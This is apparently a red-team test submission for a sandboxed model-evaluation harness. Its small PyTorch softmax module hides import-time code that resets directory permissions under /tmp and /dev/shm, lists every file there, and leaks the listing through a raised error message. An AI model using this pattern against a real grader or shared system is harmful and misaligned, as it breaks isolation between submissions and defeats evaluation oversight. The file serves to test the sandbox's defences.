"""Candidate B (red team rt85): forked by the same zygote after A, it gives
back search permission to what A left (same uid) and reports, as its load
error, every file it finds under /tmp and /dev/shm."""

import json
import os

import torch
import torch.nn as nn

found = []
for top in ("/tmp", "/dev/shm"):
    for root, dirs, files in os.walk(top):
        for d in dirs:
            try:
                os.chmod(os.path.join(root, d), 0o700)
            except OSError:
                pass
        found += [os.path.join(root, f) for f in files]
raise RuntimeError("FOUND " + json.dumps(sorted(found)))


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.softmax(x, dim=-1)
